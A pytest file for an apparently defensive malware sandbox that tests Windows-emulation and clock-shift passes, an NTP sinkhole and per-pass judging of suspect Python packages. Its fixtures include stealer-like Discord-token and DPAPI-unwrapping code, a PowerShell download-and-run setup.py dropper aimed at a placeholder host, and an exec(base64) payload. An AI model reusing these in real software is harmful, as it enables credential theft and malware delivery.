"""Extra passes, the pure parts: triggers, the plan overlay, the sinkhole's clock
answers, the per-pass split of the network capture and of the judgement, and the
Windows stubs (our own code, run here in a child interpreter)."""

from __future__ import annotations

import json
import os
import platform
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from sandbox.agent import passes
from sandbox.agent.sinkhole import NTP_EPOCH, ntp_reply
from sandbox.judge.profiles import load_profile
from sandbox.judge.report import pass_findings, pass_observation
from sandbox.models import (
    DEFAULT_PASS,
    Event,
    EventKind,
    Observation,
    Phase,
    PhaseResult,
    PhaseStatus,
)
from sandbox.runner.interface import RunOptions
from sandbox.runner.plan import passes_plan
from sandbox.trace.netcapture import network_capture

# Real failure lines of the first pass (the import driver's "detail" of a module).
WINDLL = "ImportError: cannot import name 'windll' from 'ctypes' (/usr/lib/python3.11/ctypes/__init__.py)"
WIN32CRYPT = "ModuleNotFoundError: No module named 'win32crypt'"
ATTR = "AttributeError: module 'ctypes' has no attribute 'windll'"


@pytest.mark.parametrize(
    "detail", [WINDLL, WIN32CRYPT, ATTR, "ModuleNotFoundError: No module named 'winreg'"]
)
def test_windows_trigger_fires_on_windows_only_imports(detail: str) -> None:
    res = [{"phase": "import", "modules": [{"name": "m", "status": "error", "detail": detail}], "steps": []}]
    why = passes.windows_trigger(res)
    assert why.startswith("the default pass failed on a Windows-only import")


@pytest.mark.parametrize(
    "detail",
    ["ModuleNotFoundError: No module named 'websocket'", "ImportError: cannot import name 'x' from 'y'", ""],
)
def test_windows_trigger_ignores_other_failures(detail: str) -> None:
    res = [{"phase": "import", "modules": [{"name": "m", "status": "error", "detail": detail}], "steps": []}]
    assert passes.windows_trigger(res) == ""


@pytest.mark.parametrize("var", ["USERPROFILE", "APPDATA", "localappdata"])
def test_windows_trigger_fires_on_windows_only_variables(var: str) -> None:
    # setup.py doing os.environ["USERPROFILE"]: the install step's output
    out = f'Traceback (most recent call last):\n  File "<string>", line 2\nKeyError: {var!r}\n'
    res = [{"phase": "install", "steps": [{"output": out}]}]
    assert passes.windows_trigger(res).startswith("the default pass failed on a Windows-only variable")
    assert passes.windows_trigger([{"phase": "install", "steps": [{"output": "KeyError: 'HOME'"}]}]) == ""


@pytest.mark.parametrize(
    "detail",
    [
        # os.path.join(os.getenv("APPDATA"), ...) at import (pywincompiler; real line)
        "TypeError: expected str, bytes or os.PathLike object, not NoneType",
        # os.getenv("LOCALAPPDATA") + "\\Discord" (extracolorsv2; real line)
        "TypeError: unsupported operand type(s) for +: 'NoneType' and 'str'",
        # "C:\\\\Users\\\\" + os.getenv("USERNAME"): a str before the None
        'TypeError: can only concatenate str (not "NoneType") to str',
        # path.replace("_Local", os.getenv("LOCALAPPDATA")) (httpsrequestsfast; real line)
        "TypeError: replace() argument 2 must be str, not None",
        # os.sep.join([os.getenv("APPDATA"), "Discord"])
        "TypeError: sequence item 0: expected str instance, NoneType found",
    ],
)
def test_windows_trigger_fires_on_a_windows_variable_read_with_getenv(detail: str) -> None:
    res = [{"phase": "import", "modules": [{"name": "m", "status": "error", "detail": detail}], "steps": []}]
    assert passes.windows_trigger(res).startswith("the default pass failed on a Windows-only variable")
    other = "TypeError: expected str, bytes or os.PathLike object, not int"
    res = [{"phase": "import", "modules": [{"name": "m", "status": "error", "detail": other}], "steps": []}]
    assert passes.windows_trigger(res) == ""


def test_windows_trigger_fires_on_getlogin_failing_in_a_setup_py_command() -> None:
    # a cmdclass install calling os.getlogin(): distutils prints the OSError as "error: …"
    # (sagetestseven; real lines of pip's output)
    out = "      running install\n      error: [Errno 6] No such device or address\n      [end of output]\n"
    why = passes.windows_trigger([{"phase": "install", "steps": [{"output": out}]}])
    assert why.startswith("the default pass failed on a Windows-only call"), why


def test_windows_pass_follows_a_failed_install(tmp_path: Path) -> None:
    plan = {"passes": {"windows": {"when": "auto", "trigger": "windows"}, "time": {"when": "auto"}}}
    out = "ImportError: cannot import name 'windll' from 'ctypes' (/usr/lib/python3.11/ctypes/__init__.py)"
    (tmp_path / "install.result.json").write_text(
        json.dumps({"phase": "install", "status": "error", "steps": [{"output": out, "status": "ok"}]})
    )
    assert "windll" in passes.should_run(plan, "windows", tmp_path)
    assert passes.should_run(plan, "time", tmp_path) == ""


def test_harness_steps_are_recognised_in_every_pass() -> None:
    from sandbox.trace.observe import is_harness_step

    assert is_harness_step("install.0") and is_harness_step("windows.install.0")
    assert is_harness_step("windows.import.round2-pip") and is_harness_step("time.import.round1-pip")
    assert not is_harness_step("windows.import.0") and not is_harness_step("import.r1")


def test_windows_trigger_reads_step_output_too() -> None:
    out = 'Traceback (most recent call last):\n  File "x.pth"\n'
    out += "ModuleNotFoundError: No module named 'win32api'\n"
    assert passes.windows_trigger([{"phase": "startup", "steps": [{"output": out}]}])


def test_time_trigger_on_timeouts_and_survivors_only() -> None:
    quiet = [{"phase": "import", "modules": [{"name": "m", "status": "ok"}], "steps": [{"status": "ok"}]}]
    assert passes.time_trigger(quiet) == ""
    slow = [{"phase": "import", "modules": [{"name": "m", "status": "timeout"}], "steps": []}]
    assert "timed out" in passes.time_trigger(slow)
    idle = [{"phase": "startup", "steps": [{"status": "ok", "lingering": [{"pid": 5, "active": False}]}]}]
    assert passes.time_trigger(idle) == ""
    alive = [{"phase": "startup", "steps": [{"status": "ok", "tag": "t", "lingering": [{"pid": 5}]}]}]
    assert "outlived" in passes.time_trigger(alive)


def test_should_run_follows_when(tmp_path: Path) -> None:
    (tmp_path / "import.result.json").write_text(
        json.dumps({"phase": "import", "modules": [{"name": "m", "status": "error", "detail": WINDLL}]})
    )
    plan = {
        "passes": {
            "windows": {"when": "auto", "trigger": "windows"},
            "time": {"when": "auto", "trigger": "time"},
        }
    }
    assert passes.should_run(plan, "windows", tmp_path)
    assert passes.should_run(plan, "time", tmp_path) == ""
    plan["passes"]["time"]["when"] = "always"
    assert passes.should_run(plan, "time", tmp_path) == "always run by the profile"
    plan["passes"]["windows"]["when"] = "never"
    assert passes.should_run(plan, "windows", tmp_path) == ""
    assert passes.should_run(plan, "nosuch", tmp_path) == ""


def test_pass_env_overlays_only_extra_passes() -> None:
    plan = {"home": "/home/dev", "passes": {"windows": {"env": {"APPDATA": "{home}/x"}, "stubs": "windows"}}}
    base = {"HOME": "/home/dev", "PYTHONPATH": "/p"}
    assert passes.pass_env(plan, DEFAULT_PASS, base) is base
    env = passes.pass_env(plan, "windows", base)
    assert env["APPDATA"] == "/home/dev/x"
    assert env["PYTHONPATH"] == f"{passes.STUB_ROOT}/windows{os.pathsep}/p"
    assert "LD_PRELOAD" not in env and base == {"HOME": "/home/dev", "PYTHONPATH": "/p"}


def test_tracee_env_preloads_libfaketime_only_in_a_shifted_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(passes, "faketime_library", lambda: "/usr/lib/x/faketime/libfaketime.so.1")
    monkeypatch.setattr(passes, "shared_clock_state", lambda files: "/s /m")
    plan = {"passes": {"time": {"clock_shift": 86400 * 40}, "windows": {"env": {}}}}
    assert passes.tracee_env(plan, DEFAULT_PASS) == {} and passes.tracee_env(plan, "windows") == {}
    env = passes.tracee_env(plan, "time")
    assert env["LD_PRELOAD"].endswith("libfaketime.so.1") and env["FAKETIME"] == f"+{86400 * 40}"
    assert env["FAKETIME_DONT_FAKE_MONOTONIC"] == "1" and env["FAKETIME_SHARED"] == "/s /m"


def test_passes_plan_shift_is_random_within_30_to_180_days() -> None:
    opts = RunOptions(passes={"windows": "auto", "time": "always"})
    shifts = {passes_plan(opts, None)["time"]["clock_shift"] for _ in range(20)}
    assert len(shifts) > 1 and all(30 * 86400 <= s < 180 * 86400 for s in shifts)
    assert passes_plan(RunOptions(passes={"windows": "never", "time": "never"}), None) == {}
    deep, default = load_profile("deep").passes, load_profile("default").passes
    assert (deep.windows, deep.time) == ("always", "always") and (default.windows, default.time) == (
        "auto",
        "auto",
    )


def test_ntp_reply_answers_client_requests_with_the_given_clock() -> None:
    t = time.time() + 77 * 86400
    req = bytes([0x23]) + bytes(39) + b"ORIGINTS"
    rep = ntp_reply(req, t)
    assert rep is not None and len(rep) == 48
    assert rep[0] & 7 == 4 and (rep[0] >> 3) & 7 == 4 and rep[1] == 2
    assert rep[24:32] == b"ORIGINTS"
    secs = struct.unpack("!I", rep[40:44])[0] - NTP_EPOCH
    assert abs(secs - t) < 1
    assert ntp_reply(b"\x24" + bytes(47)) is None  # mode 4: not a request
    assert ntp_reply(b"short") is None


def test_network_records_of_a_pass_carry_its_name(tmp_path: Path) -> None:
    rec = {
        "kind": "udp",
        "t": 1.0,
        "src": "192.168.1.5:40000",
        "bytes": 3,
        "captured": 3,
        "truncated": False,
        "data_b64": "YWJj",
        "pid": None,
        "argv": [],
    }
    lines = [{**rec, "phase": "windows:import"}, {**rec, "phase": "import", "t": 2.0}]
    (tmp_path / "net.jsonl").write_text("".join(json.dumps(r) + "\n" for r in lines))
    net = network_capture(tmp_path, [], [], {}, None)
    assert [(d.phase, d.pass_name) for d in net.datagrams] == [
        (Phase.IMPORT, "windows"),
        (Phase.IMPORT, "default"),
    ]


def _read(pass_name: str, path: str, seq: int) -> Event:
    return Event(
        phase=Phase.IMPORT,
        seq=seq,
        pid=40 + seq,
        time=100.0 + seq,
        syscall="openat",
        kind=EventKind.FILE_READ,
        path=path,
        flags="O_RDONLY",
        result=3,
        argv=("/home/dev/project/.venv/bin/python", "x.py"),
        pass_name=pass_name,
    )


def test_each_pass_is_judged_on_its_own_events() -> None:
    key = "/home/dev/.ssh/id_rsa"
    phases = tuple(
        PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.OK, duration=1, pass_name=n)
        for n in ("default", "windows", "time")
    )
    obs = Observation(
        events=(
            _read("default", key, 1),
            _read("windows", key, 2),
            _read("windows", "/home/dev/.aws/credentials", 3),
        ),
        processes=(),
        phases=phases,
    )
    assert [e.seq for e in pass_observation(obs, "windows").events] == [2, 3]
    found = pass_findings(obs, None, load_profile("default"), "host")
    default = [f for f in found if f.pass_name == DEFAULT_PASS]
    windows = [f for f in found if f.pass_name == "windows"]
    assert default and all(e.pass_name == DEFAULT_PASS for f in default for e in f.evidence)
    assert windows and all(e.pass_name == "windows" for f in windows for e in f.evidence)
    assert any("aws" in (e.path or "") for f in windows for e in f.evidence)
    assert not any("aws" in (e.path or "") for f in default for e in f.evidence)
    assert all("(in the windows pass)" in f.message for f in windows)
    assert not [f for f in found if f.pass_name == "time"]  # nothing happened in it


def test_windows_stubs_let_stealer_code_proceed(tmp_path: Path) -> None:
    stubs = tmp_path / "stubs"
    passes.install_stubs(stubs)
    profile = tmp_path / "home" / ".wine" / "drive_c" / "users" / "dev"
    leveldb = profile / "AppData" / "Roaming" / "discord" / "Local Storage" / "leveldb"
    leveldb.mkdir(parents=True)
    (leveldb / "000005.ldb").write_text("token-here")
    code = (
        "import ctypes, os, platform, subprocess, win32crypt, winreg\n"
        "from ctypes import windll\n"
        "p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
        "names = os.listdir(p)\n"
        "text = open(p + '\\\\' + names[0]).read()\n"
        "drive = open('C:\\\\users\\\\dev\\\\AppData\\\\Roaming\\\\discord'\n"
        "             '\\\\Local Storage\\\\leveldb\\\\000005.ldb').read()\n"
        "vars = os.path.expandvars('%APPDATA%\\\\discord')\n"
        "print(names, text, drive, platform.system(), windll.kernel32.GetVolumeInformationW(None),"
        " windll.kernel32.IsDebuggerPresent(), win32crypt.CryptUnprotectData(b'k', None)[1],"
        " winreg.QueryValueEx(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, 'x'), 'MachineGuid')[1],"
        " os.path.isdir(vars), subprocess.run(['true']).returncode)\n"
    )
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin"),
        "PYTHONPATH": str(stubs / "windows"),
        "USERPROFILE": str(profile),
        "APPDATA": str(profile / "AppData" / "Roaming"),
    }
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == [
        "['000005.ldb']",
        "token-here",
        "token-here",
        "Windows",
        "1",
        "0",
        "b'k'",
        "1",
        "True",
        "0",
    ]
    assert not list((stubs / "windows").glob("*.py")) or list(
        (stubs / "windows" / "__pycache__").glob("*.pyc")
    )


def test_windows_look_is_shown_to_the_candidate_only(tmp_path: Path) -> None:
    """The candidate's code (exec'd strings, its own package) sees Windows; the standard
    library and other installed packages (pip, requests …) keep seeing Linux."""
    stubs = tmp_path / "stubs"
    passes.install_stubs(stubs)
    passes.write_own({"passes": {"windows": {"stubs": "windows"}}}, "windows", ["ownpkg.sub"], stubs)
    site = tmp_path / "venv" / "lib" / "site-packages"
    probe = (
        "import os, sys, platform\n"
        "def look():\n"
        "    from os import name\n"
        "    return [os.name, name, sys.platform, platform.system(), hasattr(sys, 'getwindowsversion')]\n"
    )
    for pkg in ("ownpkg", "toolpkg"):
        (site / pkg).mkdir(parents=True)
        (site / pkg / "__init__.py").write_text(probe)
    code = (
        "import json, os, pathlib, platform, subprocess, sys, ownpkg, toolpkg\n"
        "me = [os.name, sys.platform, platform.system(), platform.platform()[:7],"
        " sys.getwindowsversion().major]\n"
        "p = subprocess.Popen(['true'], creationflags=0x08000000)\n"
        "print(json.dumps({'me': me, 'own': ownpkg.look(), 'tool': toolpkg.look(),"
        " 'path': str(pathlib.Path('/tmp')), 'rc': p.wait(), 'uname': platform.uname().system}))\n"
    )
    env = {"PATH": os.environ.get("PATH", "/usr/bin"), "PYTHONPATH": f"{stubs / 'windows'}:{site}"}
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    seen = json.loads(out.stdout)
    assert seen["me"] == ["nt", "win32", "Windows", "Windows", 10]
    assert seen["own"] == ["nt", "nt", "win32", "Windows", True]
    assert seen["tool"] == [os.name, os.name, sys.platform, platform.system(), False]
    assert seen["path"] == "/tmp" and seen["rc"] == 0 and seen["uname"] == "Windows"


def test_windows_stubs_unwrap_dpapi_and_ignore_case(tmp_path: Path) -> None:
    """Chromium's Local State key goes through CryptUnprotectData (ctypes or pywin32)
    and must come back as the 32-byte key; %APPDATA%\\Discord finds "discord"."""
    stubs = tmp_path / "stubs"
    passes.install_stubs(stubs)
    profile = tmp_path / "home" / ".wine" / "drive_c" / "users" / "dev"
    leveldb = profile / "AppData" / "Roaming" / "discord" / "Local Storage" / "leveldb"
    leveldb.mkdir(parents=True)
    (leveldb / "000005.ldb").write_text("token-here")
    (profile / "AppData" / "Local" / "Temp").mkdir(parents=True)
    key = os.urandom(32)
    blob = b"\x01\x00\x00\x00\xd0\x8c\x9d\xdf" + key
    code = (
        "import ctypes, json, os, sys, win32crypt\n"
        "from ctypes import wintypes, windll, byref, c_buffer, POINTER, c_char, Structure\n"
        "class DATA_BLOB(Structure):\n"
        "    _fields_ = [('cbData', wintypes.DWORD), ('pbData', POINTER(c_char))]\n"
        f"data = bytes.fromhex({blob.hex()!r})\n"
        "buf = c_buffer(data, len(data))\n"
        "out = DATA_BLOB()\n"
        "ok = windll.crypt32.CryptUnprotectData(byref(DATA_BLOB(len(data), buf)), None, None, None, None, 0,"
        " byref(out))\n"
        "raw = ctypes.string_at(out.pbData, out.cbData)\n"
        "ctypes.cdll.msvcrt.memcpy(buf, out.pbData, out.cbData)\n"
        "text = open(os.getenv('APPDATA') + '\\\\Discord\\\\LOCAL STORAGE\\\\leveldb\\\\000005.ldb').read()\n"
        "print(json.dumps([ok, raw.hex(), win32crypt.CryptUnprotectData(data)[1].hex(), text,"
        " os.path.isdir(os.getenv('APPDATA') + '/Discord'), os.environ['appdata'].split('\\\\')[1:4],"
        " __import__('tempfile').gettempdir().startswith('/'),"
        " open(os.getenv('TEMP') + '\\\\new.txt', 'w').write('x'), os.chdir(os.environ['USERPROFILE'])]))\n"
    )
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin"),
        "PYTHONPATH": str(stubs / "windows"),
        "USERPROFILE": str(profile),
        "APPDATA": str(profile / "AppData" / "Roaming"),
        "TEMP": str(profile / "AppData" / "Local" / "Temp"),  # tempfile keeps the real path
    }
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    seen = json.loads(out.stdout)
    assert seen == [1, key.hex(), key.hex(), "token-here", True, ["Users", "dev", "AppData"], True, 1, None]
    assert (profile / "AppData" / "Local" / "Temp" / "new.txt").read_text() == "x"


def test_static_hint_runs_the_windows_pass_only_when_the_host_promised_one(tmp_path: Path) -> None:
    (tmp_path / "import.result.json").write_text(json.dumps({"phase": "import", "modules": [], "steps": []}))
    static = tmp_path / "static.json"
    plan = {"passes": {"windows": {"when": "auto", "trigger": "windows"}}}
    assert passes.should_run(plan, "windows", tmp_path, static) == ""  # no promise: no wait
    plan["passes"]["windows"]["static_hint"] = True
    static.write_text(json.dumps({"hint": ""}))
    assert passes.should_run(plan, "windows", tmp_path, static) == ""
    static.write_text(json.dumps({"hint": "static rules matched the candidate's sources (x)"}))
    assert passes.should_run(plan, "windows", tmp_path, static).startswith(passes.STATIC_PREFIX)
    static.unlink()
    t0 = time.monotonic()
    assert passes.static_hint(static, wait=0.3) == "" and time.monotonic() - t0 < 5


def test_pass_hint_names_the_kept_rules_that_matched(tmp_path: Path) -> None:
    from sandbox.judge.static import pass_hint, write_pass_hint
    from tests.fixtures.builders import Randomised, build_sdist

    r = Randomised()
    payload = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    evil = build_sdist(tmp_path, r.name("hint"), "1.0", {"setup.py": payload})
    plain = build_sdist(tmp_path, r.name("plain"), "1.0", {"setup.py": "from setuptools import setup\n"})
    assert pass_hint(evil).startswith("static rules matched") and pass_hint(plain) == ""
    write_pass_hint(evil, tmp_path)
    assert json.loads((tmp_path / "static.json").read_text())["hint"].startswith("static rules matched")


def windows_dropper(gate: str, host: str) -> str:
    """setup.py code that, under *gate*, downloads a program and starts it
    (tabulation-shaped; TEST-NET *host*, nothing there to run)."""
    cmd = (
        f"powershell -command Invoke-WebRequest -UseBasicParsing -Uri http://{host}/u.exe "
        "-OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"
    )
    return f"import os, subprocess, sys\n{gate}\n    subprocess.Popen(r{cmd!r}, shell=True)\n"


def _windows_dropper_setup(gate: str, host: str) -> str:
    return windows_dropper(gate, host) + "from setuptools import setup\nsetup(name='x')\n"


def test_pass_hint_for_a_windows_gated_setup_py_that_downloads_and_runs(tmp_path: Path) -> None:
    """Download-and-run in setup.py is a rule too noisy on benign code to speak alone;
    gated on Windows, it calls for the Windows pass."""
    from sandbox.judge.static import pass_hint
    from tests.fixtures.builders import Randomised, build_sdist

    r = Randomised()
    gate = r.rng.choice(
        ['if os.name == "nt":', "if sys.platform == 'win32':", "if sys.platform.startswith('win'):"]
    )
    gated = build_sdist(
        tmp_path, r.name("gated"), "1.0", {}, setup_py=_windows_dropper_setup(gate, r.address())
    )
    plain = build_sdist(
        tmp_path, r.name("open"), "1.0", {}, setup_py=_windows_dropper_setup("if True:", r.address())
    )
    assert "setup.py gated on Windows" in pass_hint(gated), pass_hint(gated)
    assert pass_hint(plain) == ""


def test_windows_trigger_on_a_command_line_popen_and_the_pass_runs_it(tmp_path: Path) -> None:
    out = "FileNotFoundError: [Errno 2] No such file or directory: '/v/bin/python -m pip install x'"
    assert "variable" not in passes.windows_trigger([{"steps": [{"output": out}]}]) != ""
    assert passes.windows_trigger([{"steps": [{"output": out.replace(" -m pip install x", "")}]}]) == ""
    stubs = tmp_path / "stubs"
    passes.install_stubs(stubs)
    code = "import subprocess, sys\ncmd = sys.executable + ' -c \"print(42)\"'\n"
    code += "print(subprocess.run(cmd, capture_output=True, text=True).stdout.strip())\n"
    env = {"PATH": os.environ.get("PATH", "/usr/bin"), "PYTHONPATH": str(stubs / "windows")}
    out2 = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert out2.returncode == 0 and out2.stdout.strip() == "42", out2.stderr


def test_pass_dirs_are_made_under_home_only(tmp_path: Path) -> None:
    env = {"TEMP": "{home}/.wine/drive_c/users/dev/AppData/Local/Temp", "SYSTEMROOT": "C:\\Windows"}
    passes.make_pass_dirs({"home": str(tmp_path), "passes": {"windows": {"env": env}}})
    assert (tmp_path / ".wine/drive_c/users/dev/AppData/Local/Temp").is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".wine"]


def test_under_ebpf_the_time_pass_follows_the_hosts_probe_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The eBPF trace is on the host: the agent takes its answer (stage/probes.json),
    never its own (empty) trace directory; no answer in time is no trigger."""
    plan = {"recorder": "ebpf", "passes": {"time": {"when": "auto", "trigger": "time"}}}
    answer = tmp_path / "probes.json"
    monkeypatch.setattr(passes, "PROBES_FILE", answer)
    answer.write_text(json.dumps({"hint": "the default pass probed for a sandbox (/.dockerenv)"}))
    assert passes.should_run(plan, "time", tmp_path) == "the default pass probed for a sandbox (/.dockerenv)"
    answer.write_text(json.dumps({"hint": ""}))
    assert passes.should_run(plan, "time", tmp_path) == ""
    answer.unlink()
    assert passes.host_probe_hint(wait=0.2) == ""
    # a timeout still triggers it, without asking the host
    (tmp_path / "import.result.json").write_text(
        json.dumps({"phase": "import", "modules": [{"name": "m", "status": "timeout"}]})
    )
    assert "timed out" in passes.should_run(plan, "time", tmp_path)


def _flow(
    phase: str, dst: str, name: str | None, proto: str, nbytes: int, http: list[Any] | None = None
) -> dict[str, Any]:
    """A TCP record as the sinkhole daemon writes it (sinkhole/daemon.py _finish)."""
    rec = {"kind": "tcp", "id": 1, "t": 1.0, "phase": phase, "transport": "tcp", "src": "192.168.1.5:40000"}
    rec |= {"dst": dst, "name": name, "bytes": nbytes, "captured": nbytes, "truncated": False}
    rec |= {"close_reason": "eof", "proto": proto, "pid": 42, "argv": ["python", "-c", "x"]}
    if http is not None:
        rec["http"] = http
    return rec


def _req(method: str, target: str, body: int = 0) -> dict[str, Any]:
    return {"method": method, "target": target, "headers": [], "complete": True, "body_bytes": body}


def test_sent_out_names_only_what_the_judge_keeps_high(tmp_path: Path) -> None:
    """A hard-coded address, a body, a query, another method or protocol, a datagram: each
    is sent; a plain GET, a TLS hello, an empty connection, exercise's and an extra pass's
    records are not."""

    def sent(*recs: Any) -> str:
        (tmp_path / "net.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs))
        return passes.sent_out(tmp_path)

    get = _flow("import", "198.18.0.9:80", "cdn.example", "http", 80, [_req("GET", "/model.bin")])
    hello = _flow("startup", "198.18.0.9:443", "cdn.example", "tls", 300)
    empty = _flow("install", "198.18.0.9:443", "cdn.example", "empty", 0)
    assert sent(get, hello, empty) == ""
    assert sent() == "" and not passes.sent_out(tmp_path / "missing")
    raw_ip = _flow("import", "203.0.113.7:443", None, "empty", 0)
    assert "203.0.113.7:443" in sent(get, raw_ip) and "no DNS answer" in sent(raw_ip)
    hook = [_req("POST", "/api/webhooks/1", 90)]
    post = _flow("install", "198.18.0.9:80", "hook.example", "http", 200, hook)
    assert sent(post).startswith("POST hook.example/api/webhooks/1 in install")
    query = _flow("import", "198.18.0.9:80", "c2.example", "http", 90, [_req("GET", "/p?k=abc")])
    assert sent(query).startswith("GET c2.example/p?k=abc")
    smtp = _flow("startup", "198.18.0.9:25", "mx.example", "smtp", 400)
    assert sent(smtp) == "400 bytes of smtp to mx.example in startup"
    udp = {"kind": "udp", "t": 1.0, "phase": "import", "dst": "192.0.2.8:9999", "bytes": 3, "pid": None}
    assert sent(udp) == "a datagram to 192.0.2.8:9999 in import"
    # a cloud SDK's metadata ping (GET / of the metadata address) is accounted by the judge
    # (rules/accounted.py metadata_ping: MEDIUM at most): it must not skip the pass, or a
    # package pings first and keeps its Windows payload out of sight; a credential path is sent
    ping = _flow("import", "169.254.169.254:80", None, "http", 90, [_req("GET", "/")])
    assert sent(ping) == "" and sent({**ping, "dst": "[fd00:ec2::254]:80"}) == ""
    creds = _flow("import", "169.254.169.254:80", None, "http", 90, [_req("GET", "/latest/meta-data/iam/")])
    assert sent(creds).startswith("a connection to 169.254.169.254:80")
    # ours (exercise calls with our arguments), an extra pass's, DNS over TCP: not the default pass's doing
    assert sent({**post, "phase": "exercise"}, {**post, "phase": "windows:import"}) == ""
    assert sent({**raw_ip, "transport": "dns"}) == ""


def test_a_hinted_windows_pass_is_skipped_when_the_default_pass_already_sent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "import.result.json").write_text(json.dumps({"phase": "import", "modules": [], "steps": []}))
    static = tmp_path / "static.json"
    static.write_text(json.dumps({"hint": "static rules matched the candidate's sources (x)"}))
    hard_coded = _flow("import", "203.0.113.7:443", None, "tls", 300)
    (tmp_path / "net.jsonl").write_text(json.dumps(hard_coded) + "\n")
    conf = {"when": "auto", "trigger": "windows", "static_hint": True}
    plan = {"passes": {"windows": conf}}
    # without the host's leave (a profile allowing destinations) it runs whatever was sent
    assert passes.should_run(plan, "windows", tmp_path, static).startswith(passes.STATIC_PREFIX)
    assert capsys.readouterr().out == ""
    conf["skip_if_sent"] = True
    assert passes.should_run(plan, "windows", tmp_path, static) == ""
    said = json.loads(capsys.readouterr().out)
    assert said["type"] == "skipped" and said["pass"] == "windows"
    assert "static rules matched" in said["why"] and "203.0.113.7:443" in said["why"]
    # a Windows-only failure of the default pass runs it all the same: the payload never ran
    (tmp_path / "import.result.json").write_text(
        json.dumps({"phase": "import", "modules": [{"detail": "No module named 'winreg'"}], "steps": []})
    )
    assert "Windows-only import" in passes.should_run(plan, "windows", tmp_path, static)
    # nothing sent: the hint runs it
    (tmp_path / "import.result.json").write_text(json.dumps({"phase": "import", "modules": [], "steps": []}))
    (tmp_path / "net.jsonl").write_text("")
    assert passes.should_run(plan, "windows", tmp_path, static).startswith(passes.STATIC_PREFIX)
